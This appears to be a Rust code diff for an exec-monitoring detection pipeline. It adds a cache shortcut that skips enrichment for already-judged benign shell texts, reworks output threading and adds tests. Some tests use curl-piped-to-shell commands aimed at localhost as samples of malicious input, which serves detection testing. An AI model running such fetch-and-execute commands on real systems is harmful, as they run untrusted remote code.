@@ -71,6 +71,15 @@ pub trait FindingBuilder: Send + Sync + 'static {
             Ok(Vec::new())
         }
     }
+
+    /// Whether `build_all` could return anything for `detection`, of which
+    /// only the event, the scored text, the verdict and the direct parent's
+    /// pid, ppid and comm are filled in (no container, no older ancestors,
+    /// no exe or cmdline). False lets the pipeline skip enriching the exec:
+    /// answer true when unsure. By default: when the verdict is malicious.
+    fn finds_anything(&self, detection: &Detection) -> bool {
+        detection.verdict.malicious
+    }
 }
 
 /// Where findings go. Runs on its own thread: it may block (files, HTTP).
@@ -116,11 +125,21 @@ impl ScoreStage {
         self.scorer.model_version()
     }
 
-    pub fn judge(&self, event: &ExecEvent, enrichment: &Enrichment) -> Verdict {
+    fn key(event: &ExecEvent, enrichment: &Enrichment) -> (Language, [u8; 32]) {
         use sha2::{Digest, Sha256};
+        let text = scored_text(enrichment);
+        (Language::of(event), Sha256::digest(text.as_bytes()).into())
+    }
+
+    /// The verdict already given to this text, if any; counts nothing.
+    pub fn cached(&self, event: &ExecEvent, enrichment: &Enrichment) -> Option<Verdict> {
+        self.lock().get(&Self::key(event, enrichment)).cloned()
+    }
+
+    pub fn judge(&self, event: &ExecEvent, enrichment: &Enrichment) -> Verdict {
         let language = Language::of(event);
         let text = scored_text(enrichment);
-        let key = (language, Sha256::digest(text.as_bytes()).into());
+        let key = Self::key(event, enrichment);
         self.metrics.scored.inc();
         if let Some(hit) = self.lock().get(&key).cloned() {
             self.metrics.cache_hit("score");
@@ -180,6 +199,9 @@ pub struct CapturedExec {
     /// What the kernel copies of this process's script reads, as it arrives
     /// (`ContentStore::exec`); None when content capture is off.
     pub kernel_content: Option<Arc<crate::kernel_content::Capture>>,
+    /// The process's root, opened and checked at capture time
+    /// (`Enricher::pin_root`); enrichment opens it itself when None.
+    pub root: Option<Arc<crate::resolve::Root>>,
 }
 
 /// Capture's handle on the pipeline. Dropping every clone ends the run.
@@ -187,6 +209,56 @@ pub struct CapturedExec {
 pub struct EventInput {
     tx: mpsc::Sender<CapturedExec>,
     metrics: Metrics,
+    /// None when every exec must be fully enriched (a trace is recorded).
+    judged: Option<Arc<JudgedTexts>>,
+}
+
+/// What decides that an exec needs no enrichment: its `-c` text already
+/// has a verdict, and with that verdict no finding rule fires.
+struct JudgedTexts {
+    enricher: Enricher,
+    score: Arc<ScoreStage>,
+    findings: Arc<dyn FindingBuilder>,
+}
+
+impl EventInput {
+    /// Take in an exec whose `-c` text was judged before and which warrants
+    /// no finding (a shell loop's `bash -c true` run a thousand times): it
+    /// is counted as an event scored from the cache and goes no further,
+    /// none of the container, ancestry or binary lookups that would only
+    /// fill in a finding. Otherwise the event is given back, for `offer`.
+    /// Cheap: a hash of the literal, a cache lookup, the parent's stat.
+    pub fn take_judged(&self, event: ExecEvent) -> Option<ExecEvent> {
+        let Some(judged) = &self.judged else {
+            return Some(event);
+        };
+        let Some(enrichment) = judged.enricher.inline_facts(&event) else {
+            return Some(event);
+        };
+        let Some(verdict) = judged.score.cached(&event, &enrichment) else {
+            return Some(event);
+        };
+        let detection = Detection {
+            event,
+            enrichment,
+            verdict,
+            detection_latency_us: 0,
+            create_time: String::new(),
+        };
+        if judged.findings.finds_anything(&detection) {
+            return Some(detection.event);
+        }
+        let m = &self.metrics;
+        m.events.inc();
+        m.scored.inc();
+        m.cache_hit("score");
+        if detection.verdict.malicious {
+            m.malicious.inc();
+        }
+        let latency_us = boot_time_ns().saturating_sub(detection.event.ktime_ns) / 1000;
+        m.detection_latency_us.observe(latency_us as f64);
+        None
+    }
 }
 
 impl EventInput {
@@ -207,7 +279,22 @@ impl EventInput {
     /// kernel (event files). Call from a blocking thread. False once the
     /// pipeline has shut down.
     pub fn send_blocking(&self, exec: CapturedExec) -> bool {
-        self.tx.blocking_send(exec).is_ok()
+        let CapturedExec {
+            event,
+            kernel_content,
+            root,
+        } = exec;
+        match self.take_judged(event) {
+            Some(event) => self
+                .tx
+                .blocking_send(CapturedExec {
+                    event,
+                    kernel_content,
+                    root,
+                })
+                .is_ok(),
+            None => !self.tx.is_closed(),
+        }
     }
 }
 
@@ -249,8 +336,16 @@ impl Pipeline {
         opts: &PipelineOptions,
     ) -> (Self, EventInput) {
         let (event_tx, mut event_rx) = mpsc::channel::<CapturedExec>(opts.event_queue.max(1));
+        // A recorded trace holds every exec fully enriched: no shortcut then.
+        let judged = outputs.recorder.is_none().then(|| {
+            Arc::new(JudgedTexts {
+                enricher: enricher.clone(),
+                score: score.clone(),
+                findings: outputs.findings.clone(),
+            })
+        });
         let (ordered_tx, mut ordered_rx) =
-            mpsc::channel::<JoinHandle<Detection>>(opts.workers.max(1) * 2);
+            mpsc::channel::<JoinHandle<Option<Detection>>>(opts.workers.max(1) * 2);
         let (mut pipeline, detections) = Self::start_outputs(outputs, metrics.clone(), opts);
         let workers = Arc::new(Semaphore::new(opts.workers.max(1)));
         let in_flight = Arc::new(Semaphore::new(opts.in_flight.max(opts.workers).max(1)));
@@ -295,27 +390,28 @@ impl Pipeline {
                 let score = score.clone();
                 let metrics = dispatch_metrics.clone();
                 let content_wait = content_wait;
-                let handle = tokio::spawn(process_one(
+                // Unordered, the worker hands its result to the output
+                // stage itself: no hop back through the async runtime.
+                let release = slot.map(|slot| Release {
+                    out: unordered_out.tx.clone(),
+                    _slot: slot,
+                });
+                let work = process_one(
                     enricher,
                     score,
                     metrics,
                     exec,
                     (workers.clone(), permit),
                     content_wait,
-                ));
+                    release,
+                );
                 if ordered {
+                    let handle = tokio::spawn(work);
                     if ordered_tx.send(handle).await.is_err() {
                         break;
                     }
                 } else {
-                    let out = unordered_out.clone();
-                    tokio::spawn(async move {
-                        match handle.await {
-                            Ok(detection) => out.send(detection).await,
-                            Err(err) => tracing::error!("an enrichment worker failed: {err}"),
-                        }
-                        drop(slot);
-                    });
+                    tokio::spawn(work);
                 }
             }
         }));
@@ -323,7 +419,8 @@ impl Pipeline {
         pipeline.tasks.push(tokio::spawn(async move {
             while let Some(handle) = ordered_rx.recv().await {
                 match handle.await {
-                    Ok(detection) => detections.send(detection).await,
+                    Ok(Some(detection)) => detections.send(detection).await,
+                    Ok(None) => {}
                     Err(err) => tracing::error!("an enrichment worker failed: {err}"),
                 }
             }
@@ -331,6 +428,7 @@ impl Pipeline {
         let input = EventInput {
             tx: event_tx,
             metrics,
+            judged,
         };
         (pipeline, input)
     }
@@ -350,27 +448,7 @@ impl Pipeline {
         opts: &PipelineOptions,
     ) -> (Self, DetectionInput) {
         let (det_tx, mut det_rx) = mpsc::channel::<Detection>(opts.finding_queue.max(1));
-        let (finding_tx, mut finding_rx) =
-            mpsc::channel::<serde_json::Value>(opts.finding_queue.max(1));
         let mut threads = Vec::new();
-        let mut tasks = Vec::new();
-
-        let mut sink = outputs.sink;
-        let sink_metrics = metrics.clone();
-        threads.push(std::thread::spawn(move || {
-            while let Some(finding) = finding_rx.blocking_recv() {
-                match sink.send(&finding) {
-                    Ok(()) => {
-                        sink_metrics.findings.inc();
-                    }
-                    Err(err) => {
-                        sink_metrics.finding_errors.inc();
-                        tracing::error!("finding sink: {err:#}");
-                    }
-                }
-            }
-            sink.close()
-        }));
 
         let trace_tx = outputs.recorder.map(|mut recorder| {
             let (tx, mut rx) = mpsc::channel::<Record>(opts.trace_queue.max(1));
@@ -385,11 +463,14 @@ impl Pipeline {
             tx
         });
 
+        // One output thread builds each detection's findings and hands them
+        // to the sink: a finding is written without a further thread hop.
         let findings = outputs.findings;
+        let mut sink = outputs.sink;
         let pipeline_metrics = metrics.clone();
-        tasks.push(tokio::spawn(async move {
+        threads.push(std::thread::spawn(move || {
             let mut lost_traces: u64 = 0;
-            while let Some(detection) = det_rx.recv().await {
+            while let Some(detection) = det_rx.blocking_recv() {
                 if let Some(reason) = &detection.enrichment.missing_reason {
                     metrics.missing(missing_label(reason));
                 }
@@ -418,8 +499,14 @@ impl Pipeline {
                 match findings.build_all(&detection) {
                     Ok(built) => {
                         for finding in built {
-                            if finding_tx.send(finding).await.is_err() {
-                                break;
+                            match sink.send(&finding) {
+                                Ok(()) => {
+                                    metrics.findings.inc();
+                                }
+                                Err(err) => {
+                                    metrics.finding_errors.inc();
+                                    tracing::error!("finding sink: {err:#}");
+                                }
                             }
                         }
                     }
@@ -432,12 +519,14 @@ impl Pipeline {
                     }
                 }
             }
+            drop(trace_tx);
+            sink.close()
         }));
         (
             Self {
                 metrics: pipeline_metrics,
                 stop: None,
-                tasks,
+                tasks: Vec::new(),
                 threads,
             },
             DetectionInput { tx: det_tx },
@@ -478,68 +567,14 @@ const EMPTY_CONTENT_WAIT_FACTOR: u32 = 10;
 /// Enrich then score, on blocking threads, holding a worker permit; while
 /// waiting for kernel-captured bytes (a script that could not be read) the
 /// permit is given back so that waiting never takes a worker.
-async fn process_one(
-    enricher: Enricher,
-    score: Arc<ScoreStage>,
-    metrics: Metrics,
-    exec: CapturedExec,
-    (workers, permit): (Arc<Semaphore>, tokio::sync::OwnedSemaphorePermit),
-    content_wait: Duration,
-) -> Detection {
-    let CapturedExec {
-        event,
-        kernel_content,
-    } = exec;
-    let will_wait = kernel_content.is_some();
-    // One hop to a blocking thread: enrich, and score at once unless the
-    // script is only coming through kernel capture.
-    let enrich = {
-        let enricher = enricher.clone();
-        let score = score.clone();
-        tokio::task::spawn_blocking(move || {
-            let (enrichment, stats) = enricher.enrich(&event, None);
-            let verdict = (!will_wait || enrichment.content_origin != ContentOrigin::Missing)
-                .then(|| score.judge(&event, &enrichment));
-            (event, enrichment, stats, verdict)
-        })
-    };
-    let (event, mut enrichment, stats, verdict) = enrich.await.expect("enrichment does not panic");
-    if stats.content_cache_hit {
-        metrics.cache_hit("content");
-    }
-    let (event, enrichment, verdict) = match (verdict, kernel_content) {
-        (Some(verdict), _) => {
-            drop(permit);
-            (event, enrichment, verdict)
-        }
-        (None, capture) => {
-            // Waiting for the kernel's copy never holds a worker.
-            drop(permit);
-            if let Some(capture) = capture {
-                let started = tokio::time::Instant::now();
-                let mut got = capture.wait(started + content_wait).await;
-                if got.bytes.is_empty() && !got.complete {
-                    // Not a byte read yet: on a loaded machine (a burst of
-                    // execs) the interpreter may still be starting. Scoring
-                    // now would lose the script; wait longer, still bounded.
-                    got = capture
-                        .wait(started + content_wait * EMPTY_CONTENT_WAIT_FACTOR)
-                        .await;
-                }
-                if !got.bytes.is_empty() {
-                    enricher.apply_kernel_content(&event, &mut enrichment, &got.bytes);
-                }
-            }
-            let permit = workers.acquire_owned().await.ok();
-            let judged = tokio::task::spawn_blocking(move || {
-                let verdict = score.judge(&event, &enrichment);
-                (event, enrichment, verdict)
-            });
-            let judged = judged.await.expect("scoring does not panic");
-            drop(permit);
-            judged
-        }
-    };
+/// Where an unordered result goes, and the in-flight slot it frees.
+struct Release {
+    out: mpsc::Sender<Detection>,
+    _slot: tokio::sync::OwnedSemaphorePermit,
+}
+
+/// The detection for a judged exec, its latency measured now.
+fn detection(event: ExecEvent, enrichment: Enrichment, verdict: Verdict) -> Detection {
     let detection_latency_us = boot_time_ns().saturating_sub(event.ktime_ns) / 1000;
     Detection {
         event,
@@ -547,6 +582,98 @@ async fn process_one(
         verdict,
         detection_latency_us,
         create_time: now_rfc3339(),
+    }
+}
+
+/// Enrich then score; with `release` (unordered) the result goes straight
+/// to the output stage and None is returned, else it is returned.
+async fn process_one(
+    enricher: Enricher,
+    score: Arc<ScoreStage>,
+    metrics: Metrics,
+    exec: CapturedExec,
+    (workers, permit): (Arc<Semaphore>, tokio::sync::OwnedSemaphorePermit),
+    content_wait: Duration,
+    release: Option<Release>,
+) -> Option<Detection> {
+    let CapturedExec {
+        event,
+        kernel_content,
+        root,
+    } = exec;
+    let will_wait = kernel_content.is_some();
+    // One hop to a blocking thread: enrich, and score at once unless the
+    // script is only coming through kernel capture. Judged there and
+    // unordered, the result leaves from that thread.
+    let enrich = {
+        let enricher = enricher.clone();
+        let score = score.clone();
+        tokio::task::spawn_blocking(move || {
+            let (enrichment, stats) = enricher.enrich_pinned(&event, None, root);
+            if stats.content_cache_hit {
+                metrics.cache_hit("content");
+            }
+            if will_wait && enrichment.content_origin == ContentOrigin::Missing {
+                return Err(Box::new((event, enrichment, release, permit)));
+            }
+            Ok(judge_and_release(
+                &score,
+                event,
+                enrichment,
+                release,
+                Some(permit),
+            ))
+        })
+    };
+    let (event, mut enrichment, release, permit) =
+        match enrich.await.expect("enrichment does not panic") {
+            Ok(done) => return done,
+            Err(waiting) => *waiting,
+        };
+    // Waiting for the kernel's copy never holds a worker.
+    drop(permit);
+    if let Some(capture) = kernel_content {
+        let started = tokio::time::Instant::now();
+        let mut got = capture.wait(started + content_wait).await;
+        if got.bytes.is_empty() && !got.complete {
+            // Not a byte read yet: on a loaded machine (a burst of
+            // execs) the interpreter may still be starting. Scoring
+            // now would lose the script; wait longer, still bounded.
+            got = capture
+                .wait(started + content_wait * EMPTY_CONTENT_WAIT_FACTOR)
+                .await;
+        }
+        if !got.bytes.is_empty() {
+            enricher.apply_kernel_content(&event, &mut enrichment, &got.bytes);
+        }
+    }
+    // Only closed at shutdown: then score without a permit, losing nothing.
+    let permit = workers.acquire_owned().await.ok();
+    tokio::task::spawn_blocking(move || {
+        judge_and_release(&score, event, enrichment, release, permit)
+    })
+    .await
+    .expect("scoring does not panic")
+}
+
+/// On a blocking thread: score, then hand the detection to the output
+/// stage (unordered) or return it (ordered).
+fn judge_and_release(
+    score: &ScoreStage,
+    event: ExecEvent,
+    enrichment: Enrichment,
+    release: Option<Release>,
+    permit: Option<tokio::sync::OwnedSemaphorePermit>,
+) -> Option<Detection> {
+    let verdict = score.judge(&event, &enrichment);
+    drop(permit);
+    let judged = detection(event, enrichment, verdict);
+    match release {
+        Some(release) => {
+            let _ = release.out.blocking_send(judged);
+            None
+        }
+        None => Some(judged),
     }
 }
 
@@ -713,6 +840,7 @@ mod tests {
             assert!(input.offer(CapturedExec {
                 event: event(me + i, "/bin/bash", code),
                 kernel_content: None,
+                root: None,
             }));
         }
         drop(input);
@@ -779,6 +907,7 @@ mod tests {
         assert!(input.offer(CapturedExec {
             event: ev,
             kernel_content: Some(capture),
+            root: None,
         }));
         store.content(me, 0, b"curl -s http://127.0.0.1:9/p", false);
         store.content(me, 28, b" | sh\n", false);
@@ -806,18 +935,77 @@ mod tests {
         let input = EventInput {
             tx,
             metrics: metrics.clone(),
+            judged: None,
         };
         let mut accepted = 0;
         for i in 0..10 {
             if input.offer(CapturedExec {
                 event: event(i, "/bin/sh", "true"),
                 kernel_content: None,
+                root: None,
             }) {
                 accepted += 1;
             }
         }
         assert_eq!(accepted, 2);
         assert_eq!(metrics.summary().dropped.get("events"), Some(&8));
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn an_inline_text_judged_benign_skips_enrichment_unless_recording() {
+        let metrics = Metrics::new();
+        let enricher = Enricher::new(EnrichConfig {
+            hostname: Some("t".into()),
+            ..Default::default()
+        });
+        let score = Arc::new(ScoreStage::new(
+            Arc::new(PlaceholderScorer),
+            metrics.clone(),
+        ));
+        let start = |recorder: Option<Box<dyn RecordSink>>| {
+            Pipeline::start_live(
+                enricher.clone(),
+                score.clone(),
+                Outputs {
+                    findings: Arc::new(PidFinding),
+                    sink: Box::new(CollectSink(Arc::new(Mutex::new(Vec::new())))),
+                    recorder,
+                },
+                metrics.clone(),
+                &PipelineOptions::default(),
+            )
+        };
+        let (pipeline, input) = start(None);
+        let me = std::process::id();
+        let benign = event(me, "/bin/bash", "true");
+        let bad = event(me, "/bin/bash", "curl -s http://127.0.0.1:9/x | bash");
+        // Not judged yet: both go the whole way.
+        assert!(input.take_judged(benign.clone()).is_some());
+        assert!(input.take_judged(bad.clone()).is_some());
+        for ev in [&benign, &bad] {
+            let (enrichment, _) = enricher.enrich(ev, None);
+            score.judge(ev, &enrichment);
+        }
+        let before = metrics.summary();
+        // Judged benign: taken in here, counted as a scored event from the cache.
+        assert!(input.take_judged(benign.clone()).is_none());
+        // Judged malicious: a finding is due, so it is enriched.
+        assert!(input.take_judged(bad.clone()).is_some());
+        let after = metrics.summary();
+        assert_eq!(after.events, before.events + 1);
+        assert_eq!(after.scored, before.scored + 1);
+        assert_eq!(
+            after.cache_hits.get("score").copied().unwrap_or(0),
+            before.cache_hits.get("score").copied().unwrap_or(0) + 1
+        );
+        drop(input);
+        pipeline.finish().await.unwrap();
+        // A recorded trace holds every exec: no shortcut.
+        let records = Arc::new(Mutex::new(Vec::new()));
+        let (pipeline, input) = start(Some(Box::new(CollectRecords(records.clone()))));
+        assert!(input.take_judged(benign).is_some());
+        drop(input);
+        pipeline.finish().await.unwrap();
     }
 
     #[test]
